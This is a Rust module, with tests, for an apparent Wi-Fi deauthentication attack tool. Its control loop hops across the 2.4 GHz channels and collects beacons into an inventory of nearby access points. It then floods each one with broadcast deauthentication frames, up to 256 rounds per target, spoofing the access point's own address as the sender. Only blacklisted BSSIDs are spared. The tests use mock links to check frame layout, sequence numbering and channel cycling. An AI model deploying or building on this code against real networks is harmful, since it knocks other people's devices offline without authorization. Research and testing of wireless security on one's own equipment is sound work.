//! Probe/deauth control loop.
//!
//! [`DeauthContext`] owns every run-time resource: the packet link, the
//! channel tuner, the per-channel inventories, and the probe budgets. The
//! loop strictly alternates `gather_aps` and `deauth_aps` on the current
//! channel, cycling through the allowed channel set every
//! `probes_per_channel` probes. Single-threaded by design; the only
//! blocking point is the bounded receive inside the link.

use std::time::Instant;

use anyhow::{bail, Context, Result};

use crate::channel::ChannelTuner;
use crate::frame::{self, ParseOutcome, PKT_MAX, SEQ_CTRL_OFFSET};
use crate::inventory::{AccessPointInventory, AccessPointRecord};
use crate::link::{PacketLink, RecvOutcome};

/// The 2.4 GHz channel set.
pub const N_CHANNELS: usize = 14;

/// Deauth rounds are bounded by the 802.11 sequence-number modulus.
pub const MAX_DEAUTH_ROUNDS: u16 = 256;

/// Per-recv poll window when probing is bounded by address count alone.
/// Keeps every receive finite so the budgets are re-checked at least once
/// a second.
const PROBE_POLL_USEC: i64 = 1_000_000;

/// Microsecond time source. Seam for the scenario tests; the loop only
/// needs differences, so the origin is arbitrary.
pub trait Clock {
    fn now_usec(&self) -> i64;
}

/// Monotonic wall clock anchored at construction.
pub struct SystemClock {
    origin: Instant,
}

impl SystemClock {
    pub fn new() -> Self {
        Self {
            origin: Instant::now(),
        }
    }
}

impl Default for SystemClock {
    fn default() -> Self {
        Self::new()
    }
}

impl Clock for SystemClock {
    fn now_usec(&self) -> i64 {
        self.origin.elapsed().as_micros() as i64
    }
}

/// Owned state of the probe/deauth orchestrator.
pub struct DeauthContext {
    pub(crate) interface: Option<String>,
    pub(crate) link: Option<Box<dyn PacketLink>>,
    pub(crate) tuner: Option<Box<dyn ChannelTuner>>,
    pub(crate) clock: Box<dyn Clock>,
    /// Deauth frames injected per target per pass, 1..=256.
    pub(crate) n_deauth_rounds: u16,
    pub(crate) allowed_channels: [bool; N_CHANNELS],
    pub(crate) current_channel: u8,
    /// Probes spent on a channel before cycling.
    pub(crate) probes_per_channel: u32,
    pub(crate) channel_probes_remaining: u32,
    /// Beacons accepted per probe; 0 leaves the count unbounded.
    pub(crate) probe_addr_limit: u32,
    /// Probe wall-clock budget in seconds; 0 leaves it unbounded.
    pub(crate) probe_time_limit_secs: u32,
    /// One inventory per allowed channel, `None` elsewhere.
    pub(crate) inventories: [Option<AccessPointInventory>; N_CHANNELS],
    /// BSSIDs never recorded or targeted.
    pub(crate) blacklist: Vec<[u8; 6]>,
    pub(crate) probe_expiry_usec: i64,
}

impl DeauthContext {
    pub fn new() -> Self {
        Self {
            interface: None,
            link: None,
            tuner: None,
            clock: Box::new(SystemClock::new()),
            n_deauth_rounds: 64,
            allowed_channels: [false; N_CHANNELS],
            current_channel: 0,
            probes_per_channel: 3,
            channel_probes_remaining: 0,
            probe_addr_limit: 64,
            probe_time_limit_secs: 20,
            inventories: Default::default(),
            blacklist: Vec::new(),
            probe_expiry_usec: 0,
        }
    }

    /// Admit `channel` to the allow-list and give it an empty inventory.
    ///
    /// Returns false (leaving the existing inventory alone) when the
    /// channel was already allowed.
    pub fn allow_channel(&mut self, channel: u8) -> Result<bool> {
        if !(1..=14).contains(&channel) {
            bail!("channel {channel} outside 1..=14");
        }
        let idx = channel as usize - 1;
        if self.allowed_channels[idx] {
            return Ok(false);
        }
        self.allowed_channels[idx] = true;
        self.inventories[idx] = Some(AccessPointInventory::new());
        Ok(true)
    }

    pub fn allowed_channel_count(&self) -> usize {
        self.allowed_channels.iter().filter(|&&a| a).count()
    }

    fn smallest_allowed_channel(&self) -> Option<u8> {
        self.allowed_channels
            .iter()
            .position(|&a| a)
            .map(|idx| idx as u8 + 1)
    }

    /// Install the kernel-facing handles and tune to the first channel.
    ///
    /// Requires a configured interface and a non-empty allow-list.
    pub fn init(
        &mut self,
        link: Box<dyn PacketLink>,
        tuner: Box<dyn ChannelTuner>,
    ) -> Result<()> {
        let interface = match &self.interface {
            Some(name) => name.clone(),
            None => bail!("no interface specified"),
        };
        if !(1..=MAX_DEAUTH_ROUNDS).contains(&self.n_deauth_rounds) {
            bail!("deauth rounds {} outside 1..=256", self.n_deauth_rounds);
        }
        let first = match self.smallest_allowed_channel() {
            Some(ch) => ch,
            None => bail!("no channels allowed"),
        };

        self.link = Some(link);
        self.tuner = Some(tuner);
        self.current_channel = first;
        self.retune(first);
        self.channel_probes_remaining = self.probes_per_channel;

        log::info!(
            "started on {interface}: {} channel(s), {} deauth round(s) per target",
            self.allowed_channel_count(),
            self.n_deauth_rounds,
        );
        Ok(())
    }

    /// Alternate probing and injection until a fatal error.
    pub fn run(&mut self) -> Result<()> {
        loop {
            self.gather_aps()?;
            self.deauth_aps()?;
        }
    }

    /// Release the kernel-facing handles. Safe on partially-initialized
    /// state.
    pub fn exit(&mut self) {
        self.link = None;
        self.tuner = None;
    }

    /// Retune best-effort: a failure leaves the radio where it was and the
    /// loop keeps going.
    fn retune(&mut self, channel: u8) {
        if let Some(tuner) = self.tuner.as_mut() {
            if let Err(e) = tuner.set_channel(channel) {
                log::warn!("failed to set channel {channel}, staying put: {e:#}");
            }
        }
    }

    /// Advance to the next allowed channel, wrapping past 14.
    ///
    /// The scan starts just after the current channel, so a single-channel
    /// allow-list comes back around to itself and skips the retune.
    fn cycle_channel(&mut self) {
        let old = self.current_channel;
        for step in 0..N_CHANNELS {
            let idx = (step + old as usize) % N_CHANNELS;
            if self.allowed_channels[idx] {
                self.current_channel = idx as u8 + 1;
                break;
            }
        }
        if self.current_channel != old {
            log::debug!("cycling channel {old} -> {}", self.current_channel);
            self.retune(self.current_channel);
        }
    }

    /// One probe: collect beacons on the current channel until a budget
    /// runs out, deduplicating into the channel's inventory.
    pub fn gather_aps(&mut self) -> Result<()> {
        if self.channel_probes_remaining == 0 {
            self.cycle_channel();
            self.channel_probes_remaining = self.probes_per_channel;
        }
        self.channel_probes_remaining -= 1;

        let channel = self.current_channel;
        let idx = channel as usize - 1;
        if self.inventories.get(idx).map_or(true, Option::is_none) {
            bail!("no inventory allocated for channel {channel}");
        }

        log::info!("probing on channel {channel}");

        self.probe_expiry_usec =
            self.clock.now_usec() + i64::from(self.probe_time_limit_secs) * 1_000_000;

        let mut beacons_recorded: u32 = 0;
        let mut pkt_buf = [0u8; PKT_MAX];

        loop {
            if self.probe_addr_limit > 0 && beacons_recorded >= self.probe_addr_limit {
                break;
            }
            let remaining_usec = self.probe_expiry_usec - self.clock.now_usec();
            if self.probe_time_limit_secs > 0 && remaining_usec <= 0 {
                break;
            }
            let deadline = if self.probe_time_limit_secs > 0 {
                remaining_usec
            } else {
                PROBE_POLL_USEC
            };

            let link = self.link.as_mut().context("packet link not initialized")?;
            let frame_len = match link
                .recv(&mut pkt_buf, deadline)
                .context("receive on packet link")?
            {
                RecvOutcome::Frame(len) => len,
                RecvOutcome::TimedOut => continue,
            };

            let beacon = match frame::parse_incoming(&pkt_buf[..frame_len]) {
                ParseOutcome::Beacon(beacon) => beacon,
                ParseOutcome::NotABeacon => continue,
                ParseOutcome::Malformed => {
                    log::debug!("skipping malformed frame ({frame_len} octets)");
                    continue;
                }
            };

            if self.blacklist.contains(&beacon.bssid) {
                log::debug!(
                    "ignoring blacklisted {}",
                    frame::format_mac(&beacon.bssid)
                );
                continue;
            }

            let inventory = self.inventories[idx]
                .as_mut()
                .expect("inventory checked on entry");

            // Bump the beacon counter of an already-known BSSID; a zero sum
            // means this one is new.
            let hits = inventory.for_each(|record| {
                if record.bssid == beacon.bssid {
                    record.beacons_seen += 1;
                    1
                } else {
                    0
                }
            });
            if hits > 0 {
                beacons_recorded += 1;
                continue;
            }

            let record = AccessPointRecord {
                bssid: beacon.bssid,
                channel,
                ssid: beacon.ssid,
                location: beacon.location,
                beacons_seen: 1,
            };
            log::info!("new access point: {record}");
            inventory.append(record);
            beacons_recorded += 1;
        }

        log::info!("probe window closed on channel {channel}: {beacons_recorded} beacon(s)");
        Ok(())
    }

    /// Inject `n_deauth_rounds` broadcast deauth frames for every access
    /// point recorded on the current channel. Any send failure is fatal.
    pub fn deauth_aps(&mut self) -> Result<()> {
        let channel = self.current_channel;
        let idx = channel as usize - 1;
        let rounds = self.n_deauth_rounds;

        let inventory = match self.inventories.get_mut(idx) {
            Some(Some(inventory)) => inventory,
            _ => bail!("no inventory allocated for channel {channel}"),
        };
        let link = self.link.as_mut().context("packet link not initialized")?;

        let failures = inventory.for_each(|record| deauth_one(&mut **link, record, rounds));
        if failures > 0 {
            bail!("{failures} deauth target(s) failed on channel {channel}");
        }
        Ok(())
    }
}

impl Default for DeauthContext {
    fn default() -> Self {
        Self::new()
    }
}

/// Forge and inject the deauth rounds for one access point.
///
/// Returns 1 on send failure and 0 on success, so a summing `for_each`
/// over the inventory yields the failure count.
fn deauth_one(link: &mut dyn PacketLink, record: &AccessPointRecord, rounds: u16) -> u32 {
    let mut pkt = [0u8; PKT_MAX];
    let rtap_len = frame::forge_radiotap(&mut pkt);
    let mgmt_len = frame::forge_broadcast_deauth(&record.bssid, &mut pkt[rtap_len..]);
    let pkt_len = rtap_len + mgmt_len;

    log::info!(
        "injecting {rounds} deauth frame(s) for {}",
        frame::format_mac(&record.bssid)
    );

    for round in 0..u32::from(rounds) {
        // Raw sequence-control bytes, low nibble left for the fragment
        // number: low byte (round*16) mod 256, high byte (round/16) mod 256.
        let seq = rtap_len + SEQ_CTRL_OFFSET;
        pkt[seq] = ((round * 16) % 256) as u8;
        pkt[seq + 1] = ((round / 16) % 256) as u8;

        if let Err(e) = link.send(&pkt[..pkt_len]) {
            log::error!(
                "deauth send failed for {}: {e}",
                frame::format_mac(&record.bssid)
            );
            return 1;
        }
    }
    0
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::cell::{Cell, RefCell};
    use std::collections::VecDeque;
    use std::io;
    use std::rc::Rc;

    use crate::frame::testutil::make_beacon;

    // ── Test doubles ────────────────────────────────────────────────

    #[derive(Clone)]
    struct TestClock(Rc<Cell<i64>>);

    impl Clock for TestClock {
        fn now_usec(&self) -> i64 {
            self.0.get()
        }
    }

    enum Script {
        Frame(Vec<u8>),
        RecvError,
    }

    /// Packet link replaying a beacon script. Every receive advances the
    /// shared simulated clock by `advance_usec`; an exhausted script times
    /// out. Sent frames are captured for inspection.
    struct ScriptedLink {
        script: VecDeque<Script>,
        clock: Rc<Cell<i64>>,
        advance_usec: i64,
        sent: Rc<RefCell<Vec<Vec<u8>>>>,
        fail_send_at: Option<usize>,
    }

    impl ScriptedLink {
        fn new(
            script: Vec<Script>,
            clock: &Rc<Cell<i64>>,
            advance_usec: i64,
            sent: &Rc<RefCell<Vec<Vec<u8>>>>,
        ) -> Self {
            Self {
                script: script.into(),
                clock: clock.clone(),
                advance_usec,
                sent: sent.clone(),
                fail_send_at: None,
            }
        }
    }

    impl PacketLink for ScriptedLink {
        fn recv(&mut self, buf: &mut [u8], _deadline_usec: i64) -> io::Result<RecvOutcome> {
            self.clock.set(self.clock.get() + self.advance_usec);
            match self.script.pop_front() {
                Some(Script::Frame(bytes)) => {
                    let len = bytes.len().min(buf.len());
                    buf[..len].copy_from_slice(&bytes[..len]);
                    Ok(RecvOutcome::Frame(len))
                }
                Some(Script::RecvError) => {
                    Err(io::Error::new(io::ErrorKind::Other, "socket closed"))
                }
                None => Ok(RecvOutcome::TimedOut),
            }
        }

        fn send(&mut self, frame: &[u8]) -> io::Result<()> {
            let already_sent = self.sent.borrow().len();
            if self.fail_send_at == Some(already_sent) {
                return Err(io::Error::new(io::ErrorKind::BrokenPipe, "tx dead"));
            }
            self.sent.borrow_mut().push(frame.to_vec());
            Ok(())
        }
    }

    struct RecordingTuner(Rc<RefCell<Vec<u8>>>);

    impl ChannelTuner for RecordingTuner {
        fn set_channel(&mut self, channel: u8) -> Result<()> {
            self.0.borrow_mut().push(channel);
            Ok(())
        }
    }

    struct TestHarness {
        ctx: DeauthContext,
        clock: Rc<Cell<i64>>,
        sent: Rc<RefCell<Vec<Vec<u8>>>>,
        tuned: Rc<RefCell<Vec<u8>>>,
    }

    /// Configured-but-uninitialized context plus its shared probes.
    fn harness(channels: &[u8]) -> TestHarness {
        let mut ctx = DeauthContext::new();
        ctx.interface = Some("wlan0mon".to_string());
        for &ch in channels {
            ctx.allow_channel(ch).unwrap();
        }
        let clock = Rc::new(Cell::new(0));
        ctx.clock = Box::new(TestClock(clock.clone()));
        TestHarness {
            ctx,
            clock,
            sent: Rc::new(RefCell::new(Vec::new())),
            tuned: Rc::new(RefCell::new(Vec::new())),
        }
    }

    fn init(h: &mut TestHarness, link: ScriptedLink) {
        let tuner = RecordingTuner(h.tuned.clone());
        h.ctx.init(Box::new(link), Box::new(tuner)).unwrap();
    }

    const MAC_A: [u8; 6] = [0xAA; 6];
    const MAC_B: [u8; 6] = [0xBB; 6];

    // ── Configuration invariants ────────────────────────────────────

    #[test]
    fn inventories_exist_exactly_for_allowed_channels() {
        let h = harness(&[1, 6, 11]);
        for ch in 1..=14u8 {
            let idx = ch as usize - 1;
            let allowed = matches!(ch, 1 | 6 | 11);
            assert_eq!(h.ctx.allowed_channels[idx], allowed);
            assert_eq!(h.ctx.inventories[idx].is_some(), allowed);
            if allowed {
                assert!(h.ctx.inventories[idx].as_ref().unwrap().is_empty());
            }
        }
    }

    #[test]
    fn allow_channel_is_idempotent_and_range_checked() {
        let mut ctx = DeauthContext::new();
        assert!(ctx.allow_channel(6).unwrap());
        assert!(!ctx.allow_channel(6).unwrap());
        assert!(ctx.allow_channel(0).is_err());
        assert!(ctx.allow_channel(15).is_err());
        assert_eq!(ctx.allowed_channel_count(), 1);
    }

    #[test]
    fn init_requires_interface_and_channels() {
        let mut h = harness(&[6]);
        h.ctx.interface = None;
        let link = ScriptedLink::new(vec![], &h.clock, 1_000, &h.sent);
        let tuner = RecordingTuner(h.tuned.clone());
        assert!(h.ctx.init(Box::new(link), Box::new(tuner)).is_err());

        let mut h = harness(&[]);
        let link = ScriptedLink::new(vec![], &h.clock, 1_000, &h.sent);
        let tuner = RecordingTuner(h.tuned.clone());
        assert!(h.ctx.init(Box::new(link), Box::new(tuner)).is_err());
    }

    #[test]
    fn init_tunes_to_smallest_allowed_channel() {
        let mut h = harness(&[11, 6]);
        let link = ScriptedLink::new(vec![], &h.clock, 1_000, &h.sent);
        init(&mut h, link);
        assert_eq!(h.ctx.current_channel, 6);
        assert_eq!(*h.tuned.borrow(), vec![6]);
        assert_eq!(h.ctx.channel_probes_remaining, h.ctx.probes_per_channel);
    }

    // ── Duplicate suppression ──────────────────────────────────────

    #[test]
    fn gather_deduplicates_by_bssid_and_counts_beacons() {
        let mut h = harness(&[6]);
        h.ctx.probes_per_channel = 1;
        h.ctx.probe_addr_limit = 4;

        let script = vec![
            Script::Frame(make_beacon(&MAC_A, b"X", None)),
            Script::Frame(make_beacon(&MAC_A, b"X", None)),
            Script::Frame(make_beacon(&MAC_B, b"X", None)),
            Script::Frame(make_beacon(&MAC_A, b"X", None)),
        ];
        let link = ScriptedLink::new(script, &h.clock, 1_000, &h.sent);
        init(&mut h, link);

        h.ctx.gather_aps().unwrap();

        let inventory = h.ctx.inventories[5].as_ref().unwrap();
        assert_eq!(inventory.len(), 2);
        let records: Vec<_> = inventory.iter().collect();
        assert_eq!(records[0].bssid, MAC_A);
        assert_eq!(records[0].beacons_seen, 3);
        assert_eq!(records[0].channel, 6);
        assert_eq!(records[1].bssid, MAC_B);
        assert_eq!(records[1].beacons_seen, 1);
    }

    // ── Blacklisted BSSIDs are skipped entirely ────────────────────

    #[test]
    fn gather_skips_blacklisted_bssids() {
        let mut h = harness(&[6]);
        h.ctx.probes_per_channel = 1;
        h.ctx.probe_addr_limit = 4;
        h.ctx.probe_time_limit_secs = 1;
        h.ctx.blacklist = vec![MAC_A];

        let script = vec![
            Script::Frame(make_beacon(&MAC_A, b"X", None)),
            Script::Frame(make_beacon(&MAC_A, b"X", None)),
            Script::Frame(make_beacon(&MAC_B, b"X", None)),
            Script::Frame(make_beacon(&MAC_A, b"X", None)),
        ];
        let link = ScriptedLink::new(script, &h.clock, 100_000, &h.sent);
        init(&mut h, link);

        h.ctx.gather_aps().unwrap();

        let inventory = h.ctx.inventories[5].as_ref().unwrap();
        assert_eq!(inventory.len(), 1);
        let only = inventory.iter().next().unwrap();
        assert_eq!(only.bssid, MAC_B);
        assert_eq!(only.beacons_seen, 1);
    }

    // ── Wall-clock budget ──────────────────────────────────────────

    #[test]
    fn gather_stops_at_the_time_budget() {
        let mut h = harness(&[6]);
        h.ctx.probes_per_channel = 1;
        h.ctx.probe_addr_limit = 0;
        h.ctx.probe_time_limit_secs = 1;

        // One distinct beacon per simulated 100 ms, more than the window
        // can drain.
        let script: Vec<Script> = (0..12u8)
            .map(|i| {
                let mut mac = MAC_A;
                mac[5] = i;
                Script::Frame(make_beacon(&mac, b"net", None))
            })
            .collect();
        let link = ScriptedLink::new(script, &h.clock, 100_000, &h.sent);
        init(&mut h, link);

        h.ctx.gather_aps().unwrap();

        assert!(h.clock.get() >= 1_000_000);
        let recorded = h.ctx.inventories[5].as_ref().unwrap().len();
        assert!(
            (8..=11).contains(&recorded),
            "recorded {recorded} beacons in a 1 s window"
        );
    }

    // ── Channel cycling ────────────────────────────────────────────

    #[test]
    fn cycler_walks_the_allowed_channels_in_order() {
        let mut h = harness(&[1, 6, 11]);
        h.ctx.probes_per_channel = 1;
        h.ctx.probe_addr_limit = 0;
        h.ctx.probe_time_limit_secs = 1;

        // Empty script: every receive times out, burning 500 ms of
        // simulated time, so each probe expires after two receives.
        let link = ScriptedLink::new(vec![], &h.clock, 500_000, &h.sent);
        init(&mut h, link);

        for _ in 0..6 {
            h.ctx.gather_aps().unwrap();
            let idx = h.ctx.current_channel as usize - 1;
            assert!(h.ctx.allowed_channels[idx]);
        }

        assert_eq!(*h.tuned.borrow(), vec![1, 6, 11, 1, 6, 11]);
    }

    #[test]
    fn single_channel_allow_list_cycles_in_place() {
        let mut h = harness(&[9]);
        h.ctx.probes_per_channel = 1;
        h.ctx.probe_addr_limit = 0;
        h.ctx.probe_time_limit_secs = 1;

        let link = ScriptedLink::new(vec![], &h.clock, 500_000, &h.sent);
        init(&mut h, link);

        for _ in 0..3 {
            h.ctx.gather_aps().unwrap();
            assert_eq!(h.ctx.current_channel, 9);
        }
        // Only the initial tune; in-place cycles never retune.
        assert_eq!(*h.tuned.borrow(), vec![9]);
    }

    // ── Injection layout ───────────────────────────────────────────

    #[test]
    fn deauth_injects_rounds_with_incrementing_sequence() {
        let mut h = harness(&[6]);
        h.ctx.n_deauth_rounds = 3;

        let link = ScriptedLink::new(vec![], &h.clock, 1_000, &h.sent);
        init(&mut h, link);

        h.ctx.inventories[5].as_mut().unwrap().append(AccessPointRecord {
            bssid: MAC_B,
            channel: 6,
            ssid: b"X".to_vec(),
            location: Vec::new(),
            beacons_seen: 1,
        });

        h.ctx.deauth_aps().unwrap();

        let sent = h.sent.borrow();
        assert_eq!(sent.len(), 3);
        for (round, pkt) in sent.iter().enumerate() {
            assert_eq!(pkt.len(), 12 + 26);
            // Management header sits past the injection radiotap header.
            assert_eq!(&pkt[12..14], &[0xC0, 0x00], "frame control");
            assert_eq!(&pkt[16..22], &[0xFF; 6], "broadcast destination");
            assert_eq!(&pkt[22..28], &MAC_B, "spoofed source");
            assert_eq!(&pkt[28..34], &MAC_B, "bssid");
            assert_eq!(pkt[34], (round as u8) * 16, "sequence low byte");
            assert_eq!(pkt[35], 0, "sequence high byte");
        }
    }

    #[test]
    fn sequence_bytes_wrap_past_sixteen_rounds() {
        let mut h = harness(&[6]);
        h.ctx.n_deauth_rounds = 18;

        let link = ScriptedLink::new(vec![], &h.clock, 1_000, &h.sent);
        init(&mut h, link);
        h.ctx.inventories[5].as_mut().unwrap().append(AccessPointRecord {
            bssid: MAC_A,
            channel: 6,
            ssid: Vec::new(),
            location: Vec::new(),
            beacons_seen: 1,
        });

        h.ctx.deauth_aps().unwrap();

        let sent = h.sent.borrow();
        assert_eq!(sent.len(), 18);
        // Round 16: low byte wraps to 0, high byte carries.
        assert_eq!(sent[16][34], 0x00);
        assert_eq!(sent[16][35], 0x01);
        assert_eq!(sent[17][34], 0x10);
        assert_eq!(sent[17][35], 0x01);
    }

    // ── Fatal send failure ─────────────────────────────────────────

    #[test]
    fn send_failure_is_fatal_and_exit_releases_the_link() {
        let mut h = harness(&[6]);
        h.ctx.n_deauth_rounds = 3;
        h.ctx.probes_per_channel = 1;
        h.ctx.probe_addr_limit = 0;
        h.ctx.probe_time_limit_secs = 1;

        let mut link = ScriptedLink::new(vec![], &h.clock, 500_000, &h.sent);
        link.fail_send_at = Some(1);
        init(&mut h, link);

        h.ctx.inventories[5].as_mut().unwrap().append(AccessPointRecord {
            bssid: MAC_B,
            channel: 6,
            ssid: Vec::new(),
            location: Vec::new(),
            beacons_seen: 1,
        });

        // gather times out quietly, deauth dies on the second send.
        assert!(h.ctx.run().is_err());
        assert_eq!(h.sent.borrow().len(), 1);

        h.ctx.exit();
        assert!(h.ctx.link.is_none());
        assert!(h.ctx.tuner.is_none());
    }

    // ── Fatal receive failure ───────────────────────────────────────

    #[test]
    fn recv_failure_aborts_the_probe() {
        let mut h = harness(&[6]);
        h.ctx.probes_per_channel = 1;
        h.ctx.probe_addr_limit = 4;

        let link = ScriptedLink::new(vec![Script::RecvError], &h.clock, 1_000, &h.sent);
        init(&mut h, link);

        assert!(h.ctx.gather_aps().is_err());
    }

    // ── Per-frame rejects are silent ────────────────────────────────

    #[test]
    fn gather_ignores_non_beacons_and_malformed_frames() {
        let mut h = harness(&[6]);
        h.ctx.probes_per_channel = 1;
        h.ctx.probe_addr_limit = 1;
        h.ctx.probe_time_limit_secs = 1;

        let mut deauth = vec![0u8; 64];
        let rtap = frame::forge_radiotap(&mut deauth);
        let mgmt = frame::forge_broadcast_deauth(&MAC_A, &mut deauth[rtap..]);
        deauth.truncate(rtap + mgmt);

        let script = vec![
            Script::Frame(deauth),                    // not a beacon
            Script::Frame(vec![0x00, 0x00]),          // malformed
            Script::Frame(make_beacon(&MAC_B, b"ok", None)),
        ];
        let link = ScriptedLink::new(script, &h.clock, 1_000, &h.sent);
        init(&mut h, link);

        h.ctx.gather_aps().unwrap();

        let inventory = h.ctx.inventories[5].as_ref().unwrap();
        assert_eq!(inventory.len(), 1);
        assert_eq!(inventory.iter().next().unwrap().bssid, MAC_B);
    }
}
